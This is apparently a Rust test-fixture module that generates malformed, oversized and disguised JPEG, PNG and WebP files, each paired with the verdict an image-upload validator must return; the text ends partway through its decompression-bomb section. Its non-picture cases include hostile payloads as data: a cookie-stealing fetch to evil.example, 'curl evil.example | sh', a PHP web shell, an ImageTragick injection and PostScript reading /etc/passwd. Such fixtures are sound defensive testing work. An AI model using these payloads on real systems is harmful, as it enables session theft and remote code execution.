//! Files that an attacker or an odd camera sends, with the verdict that each must get.

mod jpeg;
mod png;
mod webp;

use std::io::Cursor;

use image::codecs::jpeg::JpegEncoder;
use image::{DynamicImage, ImageFormat, Rgb, RgbImage};

use jpeg::{Jpeg, segment};
use png::{Png, chunk};

/// Stands wherever a file of [`hostile`] has room for something that nobody but its owner should see. It must never
/// be found in what an operator gets.
pub const SECRET: &str = "secret: 52.5163N 13.3777E, Pixel 9, serial 4711";

/// What must become of a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// It is a good picture, odd as it may be.
    Accepted {
        /// Width in pixels, upright.
        width: u32,
        /// Height in pixels, upright.
        height: u32,
        /// Whether operators must be shown a preview instead of the file.
        preview: bool,
    },
    /// It is refused with this code.
    Refused(&'static str),
}

/// A file with the verdict that it must get.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostileFile {
    /// A name that no other file has, such as `jpeg-cmyk.jpg`. Its extension may lie.
    pub name: String,
    /// What is in it. No other file has the same.
    pub bytes: Vec<u8>,
    /// The media type that its client would announce, which may be wrong. Always one that is taken.
    pub media_type: &'static str,
    /// What must become of it.
    pub verdict: Verdict,
}

/// All the files. No file is larger than 2 MB, though some are pictures of a hundred
/// megapixels. All follow from the code alone, so they are the same each time.
pub fn hostile() -> Vec<HostileFile> {
    let mut files = Files(Vec::new());
    files.not_pictures();
    files.good_jpeg();
    files.bad_jpeg();
    files.good_png();
    files.bad_png();
    files.good_webp();
    files.bad_webp();
    files.bombs();
    files.stowaways();
    files.cut();
    files.0
}

/// The most expensive files that are accepted: 100 megapixels in every format, by name. They take seconds and up to a
/// gigabyte of memory each, so they are no part of [`hostile`].
pub fn worst_accepted() -> Vec<(&'static str, Vec<u8>)> {
    let jpeg = Jpeg::new(10_000, 10_000);
    let four = [(1, 1); 4];
    let adobe = |mut jpeg: Jpeg| {
        jpeg.adobe = Some(2);
        jpeg
    };
    let (w, h) = (16_383, 6_103);
    let canvas = |flags| webp::extended(flags, w, h);
    vec![
        ("jpeg-baseline", jpeg.bytes()),
        ("jpeg-progressive", jpeg.clone().progressive().bytes()),
        ("jpeg-cmyk", adobe(jpeg.clone().sampled(&four)).bytes()),
        ("jpeg-cmyk-progressive", adobe(jpeg.clone().sampled(&four).progressive()).bytes()),
        ("jpeg-64-scans", Jpeg { idle_scans: 53, ..adobe(jpeg.sampled(&four).progressive()) }.bytes()),
        ("png-rgba-16", Png::new(10_000, 10_000, 16, 6).with(b"")),
        ("png-rgba-16-interlaced", Png::new(10_000, 10_000, 16, 6).interlaced().with(b"")),
        ("webp-lossless", webp::riff(&[webp::lossless(w, h)])),
        ("webp-lossy", webp::riff(&[webp::lossy(w, h)])),
        ("webp-lossy-alpha", webp::riff(&[canvas(webp::ALPHA), lossless_opacity(w, h), webp::lossy(w, h)])),
    ]
}

/// Opacity that is compressed as a lossless picture, without its header.
fn lossless_opacity(width: u32, height: u32) -> Vec<u8> {
    let picture = webp::lossless(width, height);
    // Behind the chunk's head, the signature and the size; a first byte that says how it is compressed.
    webp::chunk(b"ALPH", &[&[1], &picture[13..17]].concat())
}

struct Files(Vec<HostileFile>);

const JPEG: &str = "image/jpeg";
const PNG: &str = "image/png";
const WEBP: &str = "image/webp";

impl Files {
    fn add(&mut self, name: impl Into<String>, bytes: Vec<u8>, media_type: &'static str, verdict: Verdict) {
        self.0.push(HostileFile { name: name.into(), bytes, media_type, verdict });
    }

    /// The media type is that of the extension.
    fn refused(&mut self, name: impl Into<String>, bytes: impl Into<Vec<u8>>, code: &'static str) {
        let name = name.into();
        let media_type = media_type(&name);
        self.add(name, bytes.into(), media_type, Verdict::Refused(code));
    }

    /// A picture that is shown as it is.
    fn shown(&mut self, name: impl Into<String>, bytes: Vec<u8>, (width, height): (u32, u32)) {
        let name = name.into();
        let media_type = media_type(&name);
        self.add(name, bytes, media_type, Verdict::Accepted { width, height, preview: false });
    }

    /// A picture of which only a preview is shown.
    fn previewed(&mut self, name: impl Into<String>, bytes: Vec<u8>, (width, height): (u32, u32)) {
        let name = name.into();
        let media_type = media_type(&name);
        self.add(name, bytes, media_type, Verdict::Accepted { width, height, preview: true });
    }

    fn not_pictures(&mut self) {
        let svg = format!("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"{SECRET}\")'/>");
        let html = "<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>";
        self.refused("empty.png", b"", "empty");
        self.refused("zero-byte.png", b"\0", "not-an-image");
        self.refused("zeros.jpg", vec![0; 4096], "not-an-image");
        self.refused("one-byte-of-a-png.png", b"\x89", "truncated");
        self.refused("one-byte-of-a-jpeg.jpg", b"\xff", "truncated");
        self.refused(
            "gif.png",
            b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
            "unsupported-format",
        );
        self.refused("gif-87.jpg", b"GIF87a\x01\0\x01\0\0\0\0;", "unsupported-format");
        self.refused(
            "bmp.png",
            b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0\0\0\0\0\x04\0\0\0",
            "unsupported-format",
        );
        self.refused("tiff-little-endian.jpg", b"II*\0\x08\0\0\0\0\0\0\0\0\0", "unsupported-format");
        self.refused("tiff-big-endian.jpg", b"MM\0*\0\0\0\x08\0\0\0\0\0\0", "unsupported-format");
        self.refused("heic.jpg", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "unsupported-format");
        self.refused("avif.webp", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf", "unsupported-format");
        self.refused("jpeg-xl.jpg", b"\xff\x0a\xfa\x7f\x01\x90\x08\x06", "unsupported-format");
        self.refused("icon.png", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0", "unsupported-format");
        self.refused("photoshop.jpg", b"8BPS\0\x01\0\0\0\0\0\0\0\x03", "unsupported-format");
        self.refused("svg.png", svg.as_bytes(), "unsupported-format");
        self.refused("svg-with-xml-head.jpg", format!("<?xml version='1.0'?>\n<!-- -->\n{svg}"), "unsupported-format");
        self.refused("svg-after-spaces.webp", format!("\u{feff}\n\t  {svg}"), "unsupported-format");
        self.refused("html.jpg", html, "not-an-image");
        self.refused("script.png", "<script>alert(1)</script>", "not-an-image");
        self.refused("php.jpg", "<?php system($_GET['c']); ?>", "not-an-image");
        self.refused("shell.png", "#!/bin/sh\ncurl evil.example | sh\n", "not-an-image");
        self.refused(
            "imagetragick.jpg",
            "push graphic-context\nfill 'url(https://evil.example/x.jpg\"|ls \"-la)'\n",
            "not-an-image",
        );
        self.refused("postscript.png", "%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", "not-an-image");
        self.refused(
            "xml-entities.png",
            "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><l>&b;</l>",
            "not-an-image",
        );
        self.refused("pdf.jpg", "%PDF-1.7\n1 0 obj\n<</OpenAction 2 0 R>>", "not-an-image");
        self.refused("zip.png", b"PK\x03\x04\x14\0\0\0\x08\0", "not-an-image");
        self.refused("elf.png", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0", "not-an-image");
        self.refused("windows-program.jpg", b"MZ\x90\0\x03\0\0\0", "not-an-image");
        self.refused("text.png", "Just a few words.\n", "not-an-image");
        self.refused("mp4.webp", b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2", "not-an-image");
        self.refused("wave.webp", b"RIFF\x24\0\0\0WAVEfmt ", "not-an-image");
        self.refused("html-before-a-picture.jpg", [html.as_bytes(), &Jpeg::new(8, 8).bytes()].concat(), "not-an-image");
        // The extension and the announced type lie, the bytes do not.
        let (picture, size) = (Png::new(31, 17, 8, 2).with(b""), (31, 17));
        self.shown("a-png-named.jpg", picture, size);
        self.shown("a-jpeg-named.webp", Jpeg::new(33, 19).bytes(), (33, 19));
        self.shown("a-webp-named.png", webp::riff(&[webp::lossless(35, 21)]), (35, 21));
    }

    fn good_jpeg(&mut self) {
        let size = (93, 61);
        let jpeg = || Jpeg::new(93, 61);
        let (full, two_by_two, two_by_one) = ([(1, 1); 3], [(2, 2), (1, 1), (1, 1)], [(2, 1), (1, 1), (1, 1)]);
        for (name, sampling) in [
            ("444", &full[..]),
            ("422", &two_by_one),
            ("420", &two_by_two),
            ("440", &[(1, 2), (1, 1), (1, 1)]),
            ("411", &[(4, 1), (1, 1), (1, 1)]),
            ("410", &[(4, 2), (1, 1), (1, 1)]),
            ("4x4", &[(4, 4), (1, 1), (1, 1)]),
            ("1x4", &[(1, 4), (1, 1), (1, 1)]),
            ("2x4", &[(2, 4), (1, 1), (1, 1)]),
            ("2x2-2x1-1x1", &[(2, 2), (2, 1), (1, 1)]),
            ("2x2-1x2-1x2", &[(2, 2), (1, 2), (1, 2)]),
            ("2x2-2x2-2x2", &[(2, 2), (2, 2), (2, 2)]),
            ("grey", &[(1, 1)]),
            ("grey-with-sampling", &[(2, 2)]),
        ] {
            self.shown(format!("jpeg-{name}.jpg"), jpeg().sampled(sampling).bytes(), size);
            self.shown(format!("jpeg-{name}-progressive.jpg"), jpeg().sampled(sampling).progressive().bytes(), size);
            for restart in [1, 2, 7] {
                let file = Jpeg { restart, ..jpeg().sampled(sampling) };
                self.shown(format!("jpeg-{name}-restart-{restart}.jpg"), file.bytes(), size);
                let name = format!("jpeg-{name}-progressive-restart-{restart}.jpg");
                self.shown(name, file.progressive().bytes(), size);
            }
        }
        self.shown("jpeg-extended.jpg", Jpeg { frame: 0xc1, ..jpeg() }.bytes(), size);
        self.shown("jpeg-a-scan-for-each-colour.jpg", Jpeg { split: true, ..jpeg() }.bytes(), size);
        for (name, adobe) in [("cmyk", 0), ("ycck", 2)] {
            let file = Jpeg { adobe: Some(adobe), ..jpeg().sampled(&[(1, 1); 4]) };
            self.shown(format!("jpeg-{name}.jpg"), file.bytes(), size);
            self.shown(format!("jpeg-{name}-progressive.jpg"), file.progressive().bytes(), size);
        }
        self.shown("jpeg-many-scans.jpg", Jpeg { idle_scans: 50, ..jpeg().progressive() }.bytes(), size);
        self.shown("jpeg-1x1.jpg", Jpeg::new(1, 1).bytes(), (1, 1));
        self.shown("jpeg-1x1-420-progressive.jpg", Jpeg::new(1, 1).sampled(&two_by_two).progressive().bytes(), (1, 1));
        self.previewed("jpeg-longest-side.jpg", Jpeg::new(30_000, 1).bytes(), (30_000, 1));
        self.previewed("jpeg-longest-side-upright.jpg", Jpeg::new(1, 30_000).bytes(), (1, 30_000));
        let fill = [&[0xff, 0xd8, 0xff, 0xff, 0xff][..], &jpeg().bytes()[3..]].concat();
        self.shown("jpeg-fill-bytes-before-a-marker.jpg", fill, size);
        let mut surplus = Jpeg { restart: 6, ..jpeg() }.bytes();
        let end = surplus.len() - 2;
        surplus.splice(end..end, [0xff, 0xd7]);
        self.shown("jpeg-a-restart-too-many.jpg", surplus, size);
        self.shown(
            "jpeg-colour-profile.jpg",
            jpeg().with(&segment(0xe2, b"ICC_PROFILE\0\x01\x01no profile")).bytes(),
            size,
        );
        for orientation in 1..=8 {
            let exif = [b"Exif\0\0".as_slice(), &exif(orientation)].concat();
            let upright = if orientation > 4 { (61, 93) } else { size };
            let name = format!("jpeg-orientation-{orientation}.jpg");
            self.previewed(name, jpeg().with(&segment(0xe1, &exif)).bytes(), upright);
        }
        let drawn = drawn();
        let mut bytes = Vec::new();
        drawn.write_with_encoder(JpegEncoder::new_with_quality(&mut bytes, 100)).expect("drawn to memory");
        self.shown("jpeg-of-another-encoder.jpg", bytes, (48, 40));
    }

    fn bad_jpeg(&mut self) {
        let jpeg = || Jpeg::new(93, 61);
        let good = jpeg().bytes();
        let frame = position(&good, &[0xff, 0xc0]);
        let scan = position(&good, &[0xff, 0xda]);
        for (name, marker) in [
            ("lossless", 0xc3),
            ("differential", 0xc5),
            ("differential-progressive", 0xc6),
            ("arithmetic", 0xc9),
            ("arithmetic-progressive", 0xca),
        ] {
            let file = Jpeg { frame: marker, ..jpeg() };
            self.refused(format!("jpeg-{name}.jpg"), file.bytes(), "unsupported-format");
        }
        for (name, sampling) in [
            ("sampled-in-thirds", [(3, 1), (1, 1), (1, 1)]),
            ("colour-finer-than-grey", [(1, 1), (2, 2), (2, 2)]),
            ("colour-finer-than-grey-downwards", [(2, 1), (1, 2), (1, 1)]),
        ] {
            self.refused(format!("jpeg-{name}.jpg"), jpeg().sampled(&sampling).bytes(), "unsupported-format");
            let progressive = jpeg().sampled(&sampling).progressive();
            self.refused(format!("jpeg-{name}-progressive.jpg"), progressive.bytes(), "unsupported-format");
        }
        let deep = Jpeg { frame: 0xc1, precision: 12, ..jpeg() };
        self.refused("jpeg-12-bit.jpg", deep.bytes(), "unsupported-format");
        // Its height comes after the picture, in a segment that only tape drives ever needed.
        let mut late_height = Jpeg::new(93, 61).bytes();
        late_height[frame + 5..frame + 7].fill(0);
        let end = late_height.len() - 2;
        late_height.splice(end..end, segment(0xdc, &61u16.to_be_bytes()));
        self.refused("jpeg-height-at-the-end.jpg", late_height, "unsupported-format");
        self.refused("jpeg-no-width.jpg", Jpeg::new(0, 61).bytes(), "corrupt");
        self.refused("jpeg-side-too-long.jpg", Jpeg::new(30_001, 1).bytes(), "side-too-long");
        // With those that say something 64, and one more.
        let most = Jpeg { idle_scans: 55, ..jpeg().progressive() };
        self.shown("jpeg-most-scans.jpg", most.bytes(), (93, 61));
        let one_more = Jpeg { idle_scans: 56, ..jpeg().progressive() };
        self.refused("jpeg-one-scan-too-many.jpg", one_more.bytes(), "too-many-parts");
        self.refused(
            "jpeg-too-many-scans.jpg",
            Jpeg { idle_scans: 200, ..jpeg().progressive() }.bytes(),
            "too-many-parts",
        );
        // With those that it needs 10,000, and one more.
        let comments = segment(0xfe, b"").repeat(9_993);
        self.previewed("jpeg-most-segments.jpg", jpeg().with(&comments).bytes(), (93, 61));
        let comments = segment(0xfe, b"").repeat(9_994);
        self.refused("jpeg-one-segment-too-many.jpg", jpeg().with(&comments).bytes(), "too-many-parts");
        let comments = segment(0xfe, b"").repeat(10_000);
        self.refused("jpeg-too-many-comments.jpg", jpeg().with(&comments).bytes(), "too-many-parts");
        let two_frames = [&good[..scan], &good[frame..]].concat();
        self.refused("jpeg-two-frame-headers.jpg", two_frames, "corrupt");
        self.refused("jpeg-two-colours.jpg", jpeg().sampled(&[(1, 1); 2]).bytes(), "corrupt");
        self.refused("jpeg-five-colours.jpg", jpeg().sampled(&[(1, 1); 5]).bytes(), "corrupt");
        self.refused("jpeg-no-sampling.jpg", with(&good, frame + 11, &[0]), "corrupt");
        self.refused("jpeg-absurd-sampling.jpg", with(&good, frame + 11, &[0xff]), "corrupt");
        self.refused("jpeg-no-quantisation-table.jpg", with(&good, frame + 12, &[3]), "corrupt");
        self.refused("jpeg-no-huffman-table.jpg", with(&good, scan + 6, &[0x33]), "corrupt");
        self.refused("jpeg-scan-of-an-unknown-colour.jpg", with(&good, scan + 5, &[77]), "corrupt");
        self.refused("jpeg-no-picture.jpg", [&good[..scan], &[0xff, 0xd9]].concat(), "corrupt");
        self.refused("jpeg-only-begin-and-end.jpg", b"\xff\xd8\xff\xd9", "corrupt");
        self.refused("jpeg-data-before-the-header.jpg", [&[0xff, 0xd8], &good[scan..]].concat(), "corrupt");
        self.refused(
            "jpeg-a-segment-without-length.jpg",
            [&good[..2], &[0xff, 0xe5, 0, 0], &good[2..]].concat(),
            "corrupt",
        );
        self.refused(
            "jpeg-a-segment-too-long.jpg",
            [&good[..2], &[0xff, 0xe5, 0xff, 0xff], &good[2..]].concat(),
            "truncated",
        );
        self.refused(
            "jpeg-garbage-between-segments.jpg",
            [&good[..2], b"garbage", &good[2..]].concat(),
            "not-an-image",
        );
        self.refused("jpeg-begins-twice.jpg", [&[0xff, 0xd8], &good[..]].concat(), "corrupt");
        let huffman = position(&good, &[0xff, 0xc4]);
        self.refused("jpeg-huffman-table-too-full.jpg", with(&good, huffman + 5, &[9, 0, 0, 3]), "corrupt");
        // The data stop, though the end is there.
        for (name, file) in [
            ("baseline", jpeg()),
            ("420", jpeg().sampled(&[(2, 2), (1, 1), (1, 1)])),
            ("split", Jpeg { split: true, ..jpeg() }),
            ("restart", Jpeg { restart: 3, ..jpeg() }),
            ("progressive", jpeg().progressive()),
            ("cmyk", Jpeg { adobe: Some(2), ..jpeg().sampled(&[(1, 1); 4]) }),
        ] {
            let bytes = file.bytes();
            let end = bytes.len();
            let from = 10 + if name == "progressive" { 8 } else { 60 };
            let short = [&bytes[..end - from], &[0xff, 0xd9]].concat();
            self.refused(format!("jpeg-{name}-stops-short.jpg"), short, "corrupt");
        }
        let mut lost = Jpeg { restart: 3, ..jpeg() }.bytes();
        let restart = position(&lost, &[0xff, 0xd2]);
        lost.splice(restart..restart + 2, []);
        self.refused("jpeg-a-restart-lost.jpg", lost, "corrupt");
        let mut colour = Jpeg { split: true, ..jpeg() }.bytes();
        let last = colour.windows(2).rposition(|two| two == [0xff, 0xda]).unwrap_or(0);
        colour.splice(last..colour.len() - 2, []);
        self.refused("jpeg-a-colour-lost.jpg", colour, "corrupt");
    }

    fn good_png(&mut self) {
        let size = (37, 23);
        for (name, color, depths) in [
            ("grey", 0, &[1, 2, 4, 8, 16][..]),
            ("rgb", 2, &[8, 16]),
            ("palette", 3, &[1, 2, 4, 8]),
            ("grey-alpha", 4, &[8, 16]),
            ("rgba", 6, &[8, 16]),
        ] {
            for depth in depths {
                let png = Png::new(37, 23, *depth, color);
                self.shown(format!("png-{name}-{depth}.png"), png.with(b""), size);
                self.shown(format!("png-{name}-{depth}-interlaced.png"), png.interlaced().with(b""), size);
                let transparent: Option<&[u8]> = match color {
                    0 => Some(&[0, 0]),
                    2 => Some(&[0; 6]),
                    3 => Some(&[7]),
                    _ => None,
                };
                if let Some(transparent) = transparent {
                    let file = png.with(&chunk(b"tRNS", transparent));
                    self.shown(format!("png-{name}-{depth}-transparent.png"), file, size);
                }
            }
        }
        for (name, width, height) in [("1x1", 1, 1), ("1x9", 1, 9), ("9x1", 9, 1)] {
            self.shown(format!("png-{name}.png"), Png::new(width, height, 8, 6).with(b""), (width, height));
            let interlaced = Png::new(width, height, 8, 6).interlaced().with(b"");
            self.shown(format!("png-{name}-interlaced.png"), interlaced, (width, height));
        }
        self.previewed("png-longest-side.png", Png::new(30_000, 1, 8, 2).with(b""), (30_000, 1));
        self.previewed("png-longest-side-upright.png", Png::new(1, 30_000, 8, 2).with(b""), (1, 30_000));
        self.previewed("png-most-pixels.png", Png::new(10_000, 10_000, 1, 0).with(b""), (10_000, 10_000));
        let png = Png::new(37, 23, 8, 2);
        let data = png::zeros(png.raw_len());
        let pieces: Vec<u8> = data.iter().flat_map(|byte| chunk(b"IDAT", &[*byte])).collect();
        self.shown("png-a-chunk-for-each-byte.png", [&png.head()[..], &pieces, &chunk(b"IEND", b"")].concat(), size);
        let idle = chunk(b"IDAT", b"").repeat(5_000);
        self.shown("png-many-empty-data-chunks.png", png.with(&idle), size);
        for orientation in 1..=8 {
            let upright = if orientation > 4 { (23, 37) } else { size };
            let file = png.with(&chunk(b"eXIf", &exif(orientation)));
            self.previewed(format!("png-orientation-{orientation}.png"), file, upright);
        }
        let drawn = drawn();
        self.shown("png-of-another-encoder.png", encoded(drawn.clone().into(), ImageFormat::Png), (48, 40));
        let deep = DynamicImage::from(drawn).into_rgba16().into();
        self.shown("png-of-another-encoder-16.png", encoded(deep, ImageFormat::Png), (48, 40));
    }

    fn bad_png(&mut self) {
        let png = Png::new(37, 23, 8, 2);
        let good = png.with(b"");
        let end = good.len();
        let data = png::zeros(png.raw_len());
        let of = |chunks: &[Vec<u8>]| [png.head(), chunks.concat()].concat();
        let end_chunk = || chunk(b"IEND", b"");
        self.refused("png-side-too-long.png", Png::new(30_001, 1, 8, 2).with(b""), "side-too-long");
        // 17 × 5,882,353 is a hundred million and one.
        self.refused("png-one-pixel-too-many.png", Png::new(17, 5_882_353, 1, 0).head(), "too-many-pixels");
        self.refused("png-one-row-too-many.png", Png::new(10_000, 10_001, 1, 0).with(b""), "too-many-pixels");
        self.refused("png-no-height.png", Png::new(30, 0, 8, 2).head(), "corrupt");
        self.refused("png-3-bit.png", Png::new(37, 23, 3, 0).with(b""), "corrupt");
        self.refused("png-rgb-of-1-bit.png", Png::new(37, 23, 1, 2).with(b""), "corrupt");
        self.refused("png-unknown-colour.png", Png { color: 5, ..png }.head(), "truncated");
        self.refused("png-no-data.png", of(&[end_chunk()]), "corrupt");
        self.refused("png-empty-data.png", of(&[chunk(b"IDAT", b""), end_chunk()]), "corrupt");
        self.refused(
            "png-half-the-data.png",
            of(&[chunk(b"IDAT", &png::stored(&vec![0; png.raw_len() / 2])), end_chunk()]),
            "corrupt",
        );
        self.refused("png-data-are-no-stream.png", of(&[chunk(b"IDAT", &[0xaa; 99]), end_chunk()]), "corrupt");
        let filter = png::stored(&vec![9; png.raw_len()]);
        self.refused("png-unknown-filter.png", of(&[chunk(b"IDAT", &filter), end_chunk()]), "corrupt");
        let no_palette = [
            Png { color: 3, ..png }.head(),
            chunk(b"IDAT", &png::zeros(Png { color: 3, ..png }.raw_len())),
            end_chunk(),
        ];
        self.refused("png-no-palette.png", no_palette.concat(), "corrupt");
        let headers = [png.head(), chunk(b"IHDR", &good[16..29]), chunk(b"IDAT", &data), end_chunk()];
        self.refused("png-two-headers.png", headers.concat(), "corrupt");
        self.refused("png-no-header.png", [png::SIGNATURE, &chunk(b"IDAT", &data), &end_chunk()].concat(), "corrupt");
        self.refused(
            "png-data-in-two-places.png",
            of(&[chunk(b"IDAT", &data[..9]), chunk(b"tEXt", b"a\0b"), chunk(b"IDAT", &data[9..]), end_chunk()]),
            "corrupt",
        );
        for (name, at) in [("header", 29), ("data", end - 16), ("end", end - 1)] {
            self.refused(format!("png-wrong-checksum-of-the-{name}.png"), with(&good, at, &[good[at] ^ 1]), "corrupt");
        }
        let text = with(&png.with(&chunk(b"tEXt", b"a\0b")), 33 + 8, b"c");
        self.refused("png-wrong-checksum-of-a-text.png", text, "corrupt");
        self.refused("png-chunk-too-long.png", with(&good, 33, &[0x7f, 0xff, 0xff, 0xff]), "truncated");
        self.refused("png-chunk-of-four-gigabytes.png", with(&good, 33, &[0xff; 4]), "truncated");
        self.refused("png-chunk-too-short.png", with(&good, 36, &[good[36] - 1]), "corrupt");
        self.refused(
            "png-garbage-between-chunks.png",
            [&good[..33], b"garbage garbage", &good[33..]].concat(),
            "corrupt",
        );
        let most = chunk(b"prVt", b"").repeat(99_997);
        self.previewed("png-most-chunks.png", png.with(&most), (37, 23));
        let one_more = chunk(b"prVt", b"").repeat(99_998);
        self.refused("png-one-chunk-too-many.png", png.with(&one_more), "too-many-parts");
        self.refused("png-too-many-chunks.png", png.with(&chunk(b"prVt", b"").repeat(100_000)), "too-many-parts");
        // The line ends were changed on the way, as it happens with programs that take everything for text.
        self.refused("png-sent-as-text.png", [b"\x89PNG\n\x1a\n", &good[8..]].concat(), "not-an-image");
        let frame = |n: u32| {
            chunk(
                b"fcTL",
                &[&n.to_be_bytes()[..], &37u32.to_be_bytes(), &23u32.to_be_bytes(), &[0; 8], &[0, 1, 0, 1, 0, 0]]
                    .concat(),
            )
        };
        let animated = |frames: u32| {
            let control = chunk(b"acTL", &[frames.to_be_bytes(), [0; 4]].concat());
            let second = chunk(b"fdAT", &[&2u32.to_be_bytes()[..], &data].concat());
            of(&[control, frame(0), chunk(b"IDAT", &data), frame(1), second, end_chunk()])
        };
        self.refused("png-animated.png", animated(2), "animated");
        self.refused("png-animated-for-ever.png", animated(u32::MAX), "animated");
    }

    fn good_webp(&mut self) {
        let (w, h) = (41, 29);
        let (lossless, lossy) = (webp::lossless(w, h), webp::lossy(w, h));
        let of = |flags, chunks: &[Vec<u8>]| webp::riff(&[vec![webp::extended(flags, w, h)], chunks.to_vec()].concat());
        self.shown("webp-lossless.webp", webp::riff(std::slice::from_ref(&lossless)), (w, h));
        self.shown("webp-lossy.webp", webp::riff(std::slice::from_ref(&lossy)), (w, h));
        self.shown("webp-lossy-alpha.webp", of(webp::ALPHA, &[webp::opacity(w, h), lossy.clone()]), (w, h));
        self.shown(
            "webp-lossy-alpha-compressed.webp",
            of(webp::ALPHA, &[lossless_opacity(w, h), lossy.clone()]),
            (w, h),
        );
        self.shown("webp-extended.webp", of(0, std::slice::from_ref(&lossless)), (w, h));
        let profile = webp::chunk(b"ICCP", b"no profile");
        self.shown("webp-colour-profile.webp", of(webp::ICC, &[profile, lossy.clone()]), (w, h));
        self.shown("webp-1x1.webp", webp::riff(&[webp::lossless(1, 1)]), (1, 1));
        self.shown("webp-1x1-lossy.webp", webp::riff(&[webp::lossy(1, 1)]), (1, 1));
        self.previewed("webp-longest-side.webp", webp::riff(&[webp::lossless(16_383, 1)]), (16_383, 1));
        self.previewed("webp-longest-side-lossy.webp", webp::riff(&[webp::lossy(1, 16_383)]), (1, 16_383));
        for orientation in 1..=8 {
            let upright = if orientation > 4 { (h, w) } else { (w, h) };
            let file = of(webp::EXIF, &[lossy.clone(), webp::chunk(b"EXIF", &exif(orientation))]);
            self.previewed(format!("webp-orientation-{orientation}.webp"), file, upright);
        }
        self.shown("webp-of-another-encoder.webp", encoded(drawn().into(), ImageFormat::WebP), (48, 40));
    }

    fn bad_webp(&mut self) {
        let (w, h) = (41, 29);
        let lossless = webp::lossless(w, h);
        let good = webp::riff(std::slice::from_ref(&lossless));
        let of = |flags, chunks: &[Vec<u8>]| webp::riff(&[vec![webp::extended(flags, w, h)], chunks.to_vec()].concat());
        let frame = |n: u8| {
            webp::chunk(b"ANMF", &[&[0, 0, 0, 0, 0, 0, 40, 0, 0, 28, 0, 0, n, 0, 0, 0][..], &lossless].concat())
        };
        let control = webp::chunk(b"ANIM", &[0; 6]);
        self.refused("webp-animated.webp", of(webp::ANIMATED, &[control.clone(), frame(1), frame(2)]), "animated");
        self.refused("webp-animated-in-secret.webp", of(0, &[control, frame(3), lossless.clone()]), "animated");
        self.refused("webp-side-too-long.webp", webp::riff(&[webp::lossless(16_384, 1)]), "side-too-long");
        self.refused("webp-no-chunks.webp", webp::riff(&[]), "corrupt");
        self.refused("webp-no-picture.webp", of(0, &[]), "corrupt");
        self.refused("webp-two-pictures.webp", webp::riff(&[lossless.clone(), webp::lossless(w, h)]), "corrupt");
        let canvas = webp::riff(&[webp::extended(0, w + 1, h), lossless.clone()]);
        self.refused("webp-canvas-of-another-size.webp", canvas, "corrupt");
        self.refused("webp-longer-than-the-file.webp", with(&good, 4, &[0xff, 0xff, 0, 0]), "truncated");
        self.refused("webp-four-gigabytes.webp", with(&good, 4, &[0xff; 4]), "truncated");
        self.refused("webp-chunk-too-long.webp", with(&good, 16, &[0xff; 4]), "truncated");
        self.refused("webp-chunk-too-short.webp", with(&good, 16, &[3, 0, 0, 0]), "corrupt");
        self.refused("webp-wrong-signature.webp", with(&good, 20, &[0x2e]), "corrupt");
        self.refused("webp-unknown-version.webp", with(&good, 24, &[good[24] | 0x20]), "corrupt");
        let mut lossy = webp::riff(&[webp::lossy(w, h)]);
        lossy[23] = 0;
        self.refused("webp-lossy-without-start-code.webp", lossy, "corrupt");
        // A frame that depends on one before.
        let mut dependent = webp::riff(&[webp::lossy(w, h)]);
        dependent[20] |= 1;
        self.refused("webp-no-key-frame.webp", dependent, "corrupt");
        let most = webp::chunk(b"junk", b"").repeat(99_998);
        self.previewed("webp-most-chunks.webp", of(0, &[most, lossless.clone()]), (w, h));
        let one_more = webp::chunk(b"junk", b"").repeat(99_999);
        self.refused("webp-one-chunk-too-many.webp", of(0, &[one_more, lossless.clone()]), "too-many-parts");
        let many = webp::chunk(b"junk", b"").repeat(100_000);
        self.refused("webp-too-many-chunks.webp", of(0, &[many, lossless]), "too-many-parts");
    }

    /// Few bytes that want much time or memory.
    fn bombs(&mut self) {
        let huge = Png::new(65_535, 65_535, 16, 6);
        self.refused("bomb-header-only.png", &huge.head()[..24], "too-many-pixels");
        self.refused(
            "bomb-header-and-data.png",
            [huge.head(), chunk(b"IDAT", &png::zeros(2_000_000))].concat(),
            "too-many-pixels",
        );
        self.refused("bomb-largest-header.png", Png::new(u32::MAX, u32::MAX, 8, 6).head(), "too-many-pixels");
        self.refused(
            "bomb-header.jpg",
            Jpeg { width: 65_535, height: 65_535, ..Jpeg::new(8, 8) }.head_only(),
            "too-many-pixels",
        );
        self.refused("bomb-header.webp", webp::riff(&[webp::lossless(16_384, 16_384)]), "too-many-pixels");
        self.refused(
            "bomb-header-lossy.webp",
            webp::riff(&[with(&webp::lossy(8, 8), 14, &[0xff; 4])]),
            "too-many-pixels",
        );
        self.refused("bomb-canvas.webp", webp::riff(&[webp::extended(0, 1 << 24, 1 << 24)]), "too-many-pixels");
        // A hundred megapixels promised, and next to nothing there.
        let large = Png::new(10_000, 10_000, 16, 6);
        let end = chunk(b"IEND", b"");
        self.refused(
            "bomb-no-data.png",
            [large.head(), chunk(b"IDAT", &png::stored(b"")), end.clone()].concat(),
            "corrupt",
        );
        self.refused(
            "bomb-no-data-interlaced.png",
            [large.interlaced().head(), chunk(b"IDAT", &png::stored(b"")), end.clone()].concat(),
            "corrupt",
        );
        let empty = |jpeg: Jpeg| [jpeg.head_only(), vec![0x55; 40], vec![0xff, 0xd9]].concat();
        self.refused("bomb-no-data.jpg", empty(Jpeg::new(10_000, 10_000)), "corrupt");
        let cmyk = Jpeg { adobe: Some(2), ..Jpeg::new(10_000, 10_000).sampled(&[(1, 1); 4]).progressive() };
        self.refused("bomb-no-data-progressive.jpg", empty(cmyk), "corrupt");
